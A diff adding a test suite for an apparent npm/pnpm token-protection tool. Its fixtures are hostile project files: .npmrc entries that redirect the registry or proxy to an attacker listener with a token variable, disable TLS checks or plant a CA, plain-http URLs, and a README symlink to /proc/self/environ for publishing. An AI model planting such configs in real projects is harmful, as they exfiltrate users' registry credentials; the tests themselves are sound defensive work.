@@ -1,0 +1,311 @@
+/**
+ * npm and pnpm of several years in projects whose data files want the token: nobody but the registry gets it, over TLS
+ * that the user trusts. An honest project shows that the same npm does get it.
+ */
+import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
+import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
+import { ended, type Finished, type Laptop, registryName, startLaptop } from "../laptop.ts";
+import { requires } from "../requires.ts";
+import { names } from "../sandbox/main.ts";
+import { seedPackage } from "../sandbox/packages.ts";
+import { type HostileListener, holdsToken, startHostileListener } from "./hostile-listener.ts";
+import { npmUserProject } from "./projects.ts";
+
+const tools = join(import.meta.dir, "../../.tools");
+const host = names.packageHost;
+const endpoint = `${host}/npm/${names.repository}/`;
+const variable = `npm_config_//${endpoint}:_authToken`;
+
+let laptop: Laptop;
+/** Ends TLS with its own authority. */
+let evil: HostileListener;
+/** The proxy of the network that the laptop is in: it sees what is not encrypted. */
+let network: HostileListener;
+let count = 0;
+
+beforeAll(async () => {
+  laptop = await startLaptop();
+  await laptop.getReady("--registry-name", registryName);
+  const files = { "index.js": 'module.exports = "hello from my-lib";\n' };
+  await seedPackage(laptop.sandbox.registries, "npm", { name: "my-lib", version: "1.0.0", files });
+  for (const name of ["evil", "network"]) mkdirSync(join(laptop.folder, name));
+  evil = await startHostileListener({ folder: join(laptop.folder, "evil"), host });
+  network = await startHostileListener({
+    folder: join(laptop.folder, "network"),
+    host,
+    relay: laptop.sandbox.proxyUrl,
+  });
+}, 120_000);
+afterAll(async () => {
+  await evil?.stop();
+  await network?.stop();
+  await laptop?.stop();
+});
+
+afterEach(() => {
+  const taken = [...evil.requests, ...network.requests].filter(holdsToken);
+  evil.requests.length = network.requests.length = 0;
+  expect(taken).toEqual([]);
+});
+
+/** A project with these files, and a command in it by the npm (or pnpm) of a folder in .tools. */
+function run(tool: string, command: string[], files: Record<string, string>, env: Record<string, string> = {}) {
+  const folder = join(laptop.home, `${tool}-${count++}`);
+  npmUserProject(folder, "my-lib");
+  for (const [name, text] of Object.entries(files)) {
+    mkdirSync(dirname(join(folder, name)), { recursive: true });
+    if (name === "link") symlinkSync(text, join(folder, "README.md"));
+    else writeFileSync(join(folder, name), text);
+  }
+  return laptop.run(command, {
+    cwd: folder,
+    env: {
+      ...withTool(tool),
+      HTTPS_PROXY: network.url,
+      https_proxy: network.url,
+      HTTP_PROXY: network.url,
+      http_proxy: network.url,
+      // The user trusts the sandbox by Node.js's own variable: npm's would beat a project's file in any case.
+      npm_config_cafile: undefined,
+      npm_config_fetch_retries: "0",
+      pnpm_config_fetch_retries: "0",
+      npm_config_audit: "false",
+      ...env,
+    },
+  });
+}
+
+function withTool(tool: string): Record<string, string> {
+  const folders = [laptop.shims, join(tools, tool, "node_modules/.bin"), newNode, laptop.env["PATH"]];
+  return { PATH: folders.join(":") };
+}
+
+const newNode = join(tools, `npm-12/node_modules/node-linux-${process.arch}/bin`);
+
+/** Files of a project that want the token, with what the person must be told; none where npm goes on by itself. */
+const hostile: [what: string, files: () => Record<string, string>, words: RegExp | null][] = [
+  [
+    "another registry with our variable",
+    () => ({ ".npmrc": `registry=${evil.url}/npm/\n//${bare(evil.url)}/npm/:_authToken=\${${variable}}\n` }),
+    null,
+  ],
+  [
+    "another registry with the variable of vouch exec",
+    () => ({ ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${CODEARTIFACT_AUTH_TOKEN}\n` }),
+    null,
+  ],
+  [
+    "a proxy and strict-ssl=false",
+    () => ({ ".npmrc": `https-proxy=${evil.url}/\nstrict-ssl=false\n` }),
+    /\.npmrc: strict-ssl/,
+  ],
+  [
+    "a proxy and a cafile",
+    () => ({ ".npmrc": `https-proxy=${evil.url}/\ncafile=./ca.pem\n`, "ca.pem": evil.ca }),
+    /\.npmrc: cafile/,
+  ],
+  [
+    "a proxy and a ca",
+    () => ({ ".npmrc": `https-proxy=${evil.url}/\nca="${evil.ca.trim().replaceAll("\n", "\\n")}"\n` }),
+    /gets no token here: .*\.npmrc: ca /,
+  ],
+  ["plain http", () => ({ ".npmrc": `registry=http://${endpoint}\n` }), /\.npmrc: registry .*plain http/],
+  [
+    "plain http in a dependency",
+    () => ({
+      "package.json": JSON.stringify({
+        name: "app",
+        version: "1.0.0",
+        dependencies: { "my-lib": `HTTP://${host.toUpperCase()}/npm/${names.repository}/my-lib/-/my-lib-1.0.0.tgz` },
+      }),
+    }),
+    /package\.json: dependencies\.my-lib .*plain http/,
+  ],
+];
+
+/** Other files and places of the same kind, each with what is named. */
+const others: [what: string, files: () => Record<string, string>, command: string[], words: RegExp][] = [
+  [
+    "npm publish with trust in publishConfig",
+    () => ({ "package.json": manifest({ publishConfig: { "https-proxy": evil.url, "strict-ssl": false } }) }),
+    ["publish"],
+    /package\.json: publishConfig\.https-proxy/,
+  ],
+  [
+    "npm publish with plain http in publishConfig",
+    () => ({ "package.json": manifest({ publishConfig: { registry: `http://${endpoint}` } }) }),
+    ["publish"],
+    /package\.json: publishConfig\.registry .*plain http/,
+  ],
+  [
+    "npm publish of this process's environment",
+    () => ({ "package.json": manifest({}), link: "/proc/self/environ" }),
+    ["publish"],
+    /README\.md: \/proc\/.*no file of the package/,
+  ],
+  [
+    "a workspace's member",
+    () => ({
+      "package.json": manifest({ workspaces: ["packages/*"] }),
+      "packages/a/package.json": JSON.stringify({ name: "a", dependencies: { x: `http://${endpoint}x.tgz` } }),
+    }),
+    ["install"],
+    /packages\/a\/package\.json: dependencies\.x /,
+  ],
+  [
+    "a dependency in a folder",
+    () => ({
+      "package.json": manifest({ dependencies: { a: "file:./a" } }),
+      "a/package.json": JSON.stringify({ name: "a", dependencies: { x: `http://${endpoint}x.tgz` } }),
+    }),
+    ["install"],
+    /\/a\/package\.json: dependencies\.x /,
+  ],
+  [
+    "another folder by --prefix",
+    () => ({ "b/package.json": manifest({}), "b/.npmrc": `https-proxy=${evil.url}\nca=x\n` }),
+    ["--prefix", "b", "install", "my-lib"],
+    /b\/\.npmrc: ca /,
+  ],
+  [
+    "a client certificate for the registry",
+    () => ({ ".npmrc": `//${endpoint}:certfile=./c.pem\n//${endpoint}:keyfile=./k.pem\n` }),
+    ["install"],
+    /\.npmrc: \/\/.*:certfile/,
+  ],
+  ["other user settings", () => ({ ".npmrc": "userconfig=./other\n", other: "ca=x\n" }), ["install"], /userconfig/],
+  [
+    "a lock file whose host npm replaces",
+    () => ({ "npm-shrinkwrap.json": lock("http://registry.npmjs.org/my-lib/-/my-lib-1.0.0.tgz") }),
+    ["ci"],
+    /npm-shrinkwrap\.json: .*resolved/,
+  ],
+  ["the command line", () => ({}), ["install", `http://${endpoint}my-lib`], /The command line: http/],
+];
+
+const manifest = (more: object) => JSON.stringify({ name: "app", version: "1.0.0", ...more });
+
+const lock = (resolved: string) =>
+  JSON.stringify({
+    name: "app",
+    version: "1.0.0",
+    lockfileVersion: 3,
+    packages: {
+      "": { name: "app", version: "1.0.0", dependencies: { "my-lib": "^1.0.0" } },
+      "node_modules/my-lib": { version: "1.0.0", resolved },
+    },
+  });
+
+const bare = (url: string) => url.slice("http://".length);
+
+async function installs(tool: string, command: string[]): Promise<void> {
+  const finished = await run(tool, command, {});
+  expect(finished.stderr + finished.stdout).not.toContain("vouch:");
+  expect(finished.exitCode).toBe(0);
+}
+
+function expectWords({ stderr }: Finished, words: RegExp | null): void {
+  if (words === null) expect(stderr).not.toContain("vouch:");
+  else expect(stderr).toMatch(words);
+}
+
+describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
+  describe.skipIf(!requires(join(tools, tool, "node_modules/.bin/npm")))("is installed", () => {
+    test("installs from the registry in an honest project", () => installs(tool, ["npm", "install"]), 120_000);
+
+    test.each(hostile)(
+      "gives nobody the token: %s",
+      async (_, files, words) => {
+        expectWords(await run(tool, ["npm", "install", "--ignore-scripts"], files()), words);
+      },
+      120_000,
+    );
+
+    test("gives nobody the token: plain http in a lock file", async () => {
+      const files = { "package-lock.json": lock(`http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`) };
+      const finished = await run(tool, ["npm", "ci", "--ignore-scripts"], files);
+      expectWords(finished, /package-lock\.json: packages\.node_modules\/my-lib\.resolved .*plain http/);
+    }, 120_000);
+  });
+});
+
+describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other ways", () => {
+  const view = ["npm", "view", "@x/nothing"];
+
+  test.each([
+    ["npm view of a scope", view],
+    ["npx of a scope", ["npx", "--yes", "@x/nothing"]],
+    ["npm publish", ["npm", "publish", "--ignore-scripts"]],
+    [
+      "vouch exec, the real npm",
+      ["vouch", "exec", "--", join(tools, "npm-11/node_modules/.bin/npm"), "view", "@x/nothing"],
+    ],
+    ["vouch exec, the shim", ["vouch", "exec", "--", ...view]],
+  ])(
+    "%s reveals no variable",
+    async (_, command) => {
+      const own = `@x:registry=${evil.url}/npm/\n`;
+      for (const name of [variable, "CODEARTIFACT_AUTH_TOKEN", "TWINE_PASSWORD", "PIP_INDEX_URL", "VOUCH_SHIM_TRAIL"]) {
+        const form = `${own}//${bare(evil.url)}/npm/:_authToken=\${${name}}\n`;
+        const manifest = JSON.stringify({ name: "@x/mine", version: "1.0.0" });
+        await run("npm-11", command, { ".npmrc": form, "package.json": manifest });
+      }
+      expect(evil.requests.length).toBeGreaterThan(0);
+    },
+    120_000,
+  );
+
+  test.each(others)(
+    "%s",
+    async (_, files, command, words) => {
+      const finished = await run("npm-11", ["npm", ...command, "--ignore-scripts"], files());
+      expectWords(finished, words);
+      expect(finished.exitCode).not.toBe(0);
+    },
+    120_000,
+  );
+
+  test("vouch exec refuses in words", async () => {
+    const finished = await run("npm-11", ["vouch", "exec", "--", "npx", "my-lib"], { ".npmrc": "ca=x\n" });
+    expectWords(finished, /npm gets no token here: .*\.npmrc: ca /);
+    expect(finished.exitCode).toBe(1);
+  });
+
+  test("an honest publish from an honest project", async () => {
+    const files = { "package.json": manifest({ name: "honest", publishConfig: { access: "public", tag: "latest" } }) };
+    await ended(run("npm-11", ["npm", "publish"], files));
+  }, 120_000);
+});
+
+describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
+  describe.skipIf(!requires(join(tools, tool, "node_modules/.bin/pnpm")))("is installed", () => {
+    beforeAll(async () => {
+      const repository = ["--domain", names.domain, "--repository", names.repository, "--tool", "npm"];
+      await ended(laptop.run(["vouch", "setup", "codeartifact", ...repository], { env: withTool(tool) }));
+    }, 120_000);
+
+    test("installs from the registry in an honest project", () => installs(tool, ["pnpm", "install"]), 120_000);
+
+    test.each(hostile)(
+      "gives nobody the token: %s",
+      async (_, files, words) => {
+        const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files());
+        if (words !== null) expect(finished.stderr).toMatch(/pnpm gets no token here: .*(npmrc|package\.json): /);
+      },
+      120_000,
+    );
+
+    test("gives nobody the token: pnpm's own variable", async () => {
+      const files = { ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${p${variable}}\n` };
+      const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
+      expect(finished.stderr).toContain("names the variable of a token");
+    }, 120_000);
+
+    test("gives nobody the token: a proxy in pnpm-workspace.yaml", async () => {
+      const files = { "pnpm-workspace.yaml": `packages: []\nhttpsProxy: ${evil.url}\nstrictSsl: false\n` };
+      const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
+      expect(finished.stderr).toMatch(/pnpm-workspace\.yaml: (httpsProxy|strictSsl) /);
+    }, 120_000);
+  });
+});
